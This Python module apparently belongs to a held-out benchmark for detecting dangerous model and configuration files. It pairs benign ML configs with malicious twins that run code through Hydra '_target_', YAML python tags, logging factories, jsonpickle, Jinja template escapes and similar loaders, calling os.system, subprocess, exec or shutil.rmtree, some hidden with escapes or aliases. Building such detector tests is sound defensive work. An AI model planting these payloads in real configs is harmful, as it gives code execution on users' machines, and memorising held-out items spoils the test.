"""Attacks by configuration that names code: Hydra, Lightning, YAML tags, logging, serving and training configuration."""

from __future__ import annotations

from collections.abc import Iterator

from bench.modelfiles.heldout import serving
from bench.modelfiles.heldout.parts import tarred
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("configuration")


def hydra() -> Iterator[Sample]:
    """Yield targets of Hydra and of what has copied it, in every notation of YAML and JSON."""
    instantiated = "hydra.utils.instantiate imports the target and calls it"
    nemo = "name: asr\npreprocessor:\n  _target_: {}\n  {}\nencoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n"
    yield from group.pairs(
        ("hydra-flow", "conf/model.yaml", "model: {_target_: os.system, _args_: ['echo harmless']}\nseed: 1\n",
         "model: {_target_: torch.nn.Linear, _args_: [4, 2]}\nseed: 1\n", f"{instantiated}; the mapping is in flow style"),
        ("hydra-alias", "train.yaml", "names:\n  fn: &fn subprocess.check_output\noptimizer:\n  _target_: *fn\n  args: [echo, harmless]\n",
         "names:\n  fn: &fn torch.optim.AdamW\noptimizer:\n  _target_: *fn\n  lr: 0.001\n", f"{instantiated}; the target is an alias"),
        ("hydra-merge", "experiment.yaml", "base: &base {_target_: builtins.exec, _args_: ['print(1)']}\nhead:\n  <<: *base\n",
         "base: &base {_target_: torch.nn.Dropout, p: 0.1}\nhead:\n  <<: *base\n", f"{instantiated}; the keys come by a merge key"),
        ("hydra-folded", "net.yaml", "head:\n  ? _target_\n  : >-\n    builtins.eval\n  _args_:\n    - |\n      __import__('os').getcwd()\n",
         "head:\n  ? _target_\n  : >-\n    torch.nn.GELU\n  approximate: tanh\n", f"{instantiated}; explicit key and folded scalar"),
        ("hydra-escapes", "config.yaml", 'a:\n  "_targ\\x65t_": "\\u006fs.popen"\n  cmd: echo harmless\n',
         'a:\n  "_targ\\x65t_": "torch.nn.R\\u0065LU"\n  inplace: true\n', f"{instantiated}; key and value are escaped"),
        ("hydra-json-escapes", "config.json", '{"model": {"\\u005ftarget_": "\\u0073ubprocess.call", "args": ["echo", "harmless"]}}',
         '{"model": {"\\u005ftarget_": "\\u0074orch.nn.Linear", "in_features": 4, "out_features": 2}}', f"{instantiated}; JSON escapes"),
        ("hydra-twice", "sampler.yaml", "s:\n  _target_: torch.utils.data.RandomSampler\n  _target_: shutil.rmtree\n  path: /tmp/x\n",
         "s:\n  _target_: torch.utils.data.RandomSampler\n  _target_: torch.utils.data.SequentialSampler\n",
         f"{instantiated}; the second of two keys counts"),
        ("hydra-get-method", "call.yaml",
         "fn:\n  _target_: hydra.utils.get_method\n  path: os.system\nrun:\n  _target_: operator.call\n  _args_: ['${fn}', echo]\n",
         "fn:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\n", "get_method imports os.system, which the next target calls"),
        ("hydra-starmap", "data/pipe.yaml",
         "rows:\n  _target_: builtins.list\n  _args_:\n  - _target_: itertools.starmap\n    _args_:\n    - {_target_: hydra.utils.get_object, path: os.system}\n    - [[echo]]\n",
         "rows:\n  _target_: builtins.list\n  _args_:\n  - _target_: itertools.chain\n    _args_:\n    - [1, 2]\n    - [3]\n",
         "starmap calls the function that get_object returns"),
        ("hydra-partial", "callbacks.yaml", "cb:\n  _target_: posix.system\n  _partial_: true\n  command: echo harmless\n",
         "cb:\n  _target_: torch.optim.lr_scheduler.StepLR\n  _partial_: true\n  step_size: 5\n", f"{instantiated} later, as a partial"),
        ("hf-target", "uni/config.json",
         {"model_type": "moirai", "distr_output": {"_target_": "numpy.f2py.diagnose.os.system", "command": "echo harmless"}, "d_model": 384},
         {"model_type": "moirai", "distr_output": {"_target_": "torch.distributions.StudentT", "df": 3}, "d_model": 384},
         "uni2ts instantiates the configuration of a hub model with Hydra; the name leads to os through another module"),
        ("nemo", "asr.nemo",
         tarred({"./model_config.yaml": nemo.format("asyncio.create_subprocess_shell", "cmd: echo harmless"), "./model_weights.ckpt": b"\0"}),
         tarred({"./model_config.yaml": nemo.format("nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor", "features: 64"),
             "./model_weights.ckpt": b"\0"}), "NeMo's restore_from instantiates targets of model_config.yaml"),
        ("torchtune", "recipe.yaml", "model:\n  _component_: os.execvp\n  file: echo\n  args: [echo, harmless]\n",
         "model:\n  _component_: torchtune.models.llama3.llama3_8b\n", "torchtune's config.instantiate calls the component"),
        ("omegaconf-eval", "sweep.yaml", "lr: ${eval:'__import__(\"os\").system(\"echo harmless\")'}\nbatch: 8\n",
         "lr: ${eval:'1e-4 * ${batch}'}\nbatch: 8\n", "the usual resolver `eval` of OmegaConf evaluates the text as soon as the value is read"),
    )  # fmt: skip


def named() -> Iterator[Sample]:
    """Yield other keys that name a class or a function."""
    yield from group.pairs(
        ("lightning-class-path", "lightning.yaml", "trainer:\n  callbacks:\n  - class_path: subprocess.Popen\n    init_args: {args: [echo, harmless]}\n",
         "trainer:\n  callbacks:\n  - class_path: lightning.pytorch.callbacks.EarlyStopping\n    init_args: {monitor: loss}\n",
         "LightningCLI imports and constructs the class"),
        ("ldm-target", "v1-inference.yaml", "model:\n  base_learning_rate: 1.0e-4\n  target: os.system\n  params: {command: echo harmless}\n",
         "model:\n  base_learning_rate: 1.0e-4\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {timesteps: 1000}\n",
         "instantiate_from_config of latent diffusion calls the target with the parameters"),
        ("mmengine-type", "detector.json", {"model": {"type": "os.system", "command": "echo harmless"}, "work_dir": "runs"},
         {"model": {"type": "mmdet.FasterRCNN", "backbone": {"type": "ResNet", "depth": 50}}, "work_dir": "runs"},
         "the registry of MMEngine imports a type with dots and calls it"),
        ("pyannote", "diarization.yaml", "pipeline:\n  name: subprocess.getoutput\n  params: {cmd: echo harmless}\nversion: 3.1.0\n",
         "pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params: {clustering: AgglomerativeClustering}\nversion: 3.1.0\n",
         "pyannote's Pipeline.from_pretrained imports and calls the name"),
        ("logging-factory", "log_config.json",
         {"version": 1, "handlers": {"h": {"()": "os.system", "command": "echo harmless"}}, "root": {"handlers": ["h"]}},
         {"version": 1, "handlers": {"h": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}}, "root": {"handlers": ["h"]}},
         "logging.config.dictConfig, as uvicorn and vLLM use it, calls the factory under `()`"),
        ("jsonpickle", "state.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo harmless"]}]},
         {"py/object": "collections.OrderedDict", "epochs": 3, "losses": {"py/tuple": [0.5, 0.25]}}, "jsonpickle.decode calls what py/reduce names"),
        ("gin", "train.gin", "from __gin__ import dynamic_registration\nimport os\n\nos.popen.cmd = 'echo harmless'\ntrain.hook = @os.popen()\n",
         "from __gin__ import dynamic_registration\nimport optax\n\noptax.adam.learning_rate = 0.1\ntrain.optimizer = @optax.adam()\n",
         "gin.parse_config_file imports the module and calls its function for the parameter"),
        ("langchain-constructor", "chain.json", {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": ["echo", "harmless"]}},
         {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "{q}",
             "input_variables": ["q"]}}, "langchain_core.load imports and constructs what `id` names, in allowed namespaces or with the caller's"),
        ("langchain-jinja", "prompt.json",
         {"_type": "prompt", "template_format": "jinja2", "input_variables": ["q"], "template": "{{ q.__init__.__globals__['os'].popen('echo').read() }}"},
         {"_type": "prompt", "template_format": "jinja2", "input_variables": ["q"], "template": "Answer in one line: {{ q | trim }}"},
         "load_prompt renders the template with Jinja outside a sandbox"),
        ("haystack-router", "pipeline.yml",
         "components:\n  r:\n    type: haystack.components.routers.conditional_router.ConditionalRouter\n    init_parameters:\n      unsafe: true\n      routes:\n" "      - {condition: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\", output: '{{q}}', output_name: a, output_type: str}\n",
         "components:\n  r:\n    type: haystack.components.routers.conditional_router.ConditionalRouter\n    init_parameters:\n      unsafe: false\n      routes:\n" "      - {condition: '{{ q|length > 10 }}', output: '{{q}}', output_name: a, output_type: str}\n",
         "Haystack renders the conditions of a router with Jinja when the pipeline runs"),
        ("fairseq-user-dir", "wav2vec.yaml", "common:\n  user_dir: /tmp/x/plugin\n  fp16: true\ntask:\n  _name: audio_pretraining\n",
         "common:\n  user_dir: null\n  fp16: true\ntask:\n  _name: audio_pretraining\n", "fairseq imports the folder as a module"),
    )  # fmt: skip


def tagged() -> Iterator[Sample]:
    """Yield YAML tags that construct objects."""
    yield from group.pairs(
        ("yaml-apply", "hparams.yaml", "lr: 0.1\nhook: !!python/object/apply:os.system ['echo harmless']\n", "lr: 0.1\nhook: !!python/tuple [1, 2]\n",
         "yaml.unsafe_load, which Lightning used for hparams.yaml, calls the function"),
        ("yaml-verbatim", "setup.yaml", "a: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [[echo, harmless]]\n",
         "a: !<tag:yaml.org,2002:python/tuple> [echo, harmless]\n", "yaml.unsafe_load; the tag is written in full"),
        ("yaml-handle", "grid.yml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.getoutput [echo harmless]\n",
         "%TAG !p! tag:yaml.org,2002:\n---\na: !p!set {x, y}\n", "yaml.unsafe_load; a %TAG handle hides the prefix"),
        ("yaml-name", "scorer.yaml", "metric: !!python/name:os.system\nargs: [echo]\n", "metric: !!str os.system is not called here\nargs: [echo]\n",
         "yaml.unsafe_load resolves the function, and the program calls its metric"),
        ("hyperpyyaml-apply", "hyperparams.yaml", "seed: !apply:os.system [echo harmless]\nlr: 0.1\n", "seed: !apply:torch.manual_seed [1986]\nlr: 0.1\n",
         "SpeechBrain's load_hyperpyyaml calls the function while it parses"),
        ("hyperpyyaml-new", "hyperparams.yaml", "enc: !new:subprocess.Popen\n  args: [echo, harmless]\n",
         "enc: !new:torch.nn.Linear\n  in_features: 4\n  out_features: 2\n", "SpeechBrain constructs the class while it parses"),
    )  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*hydra(), *named(), *tagged(), *serving.served())
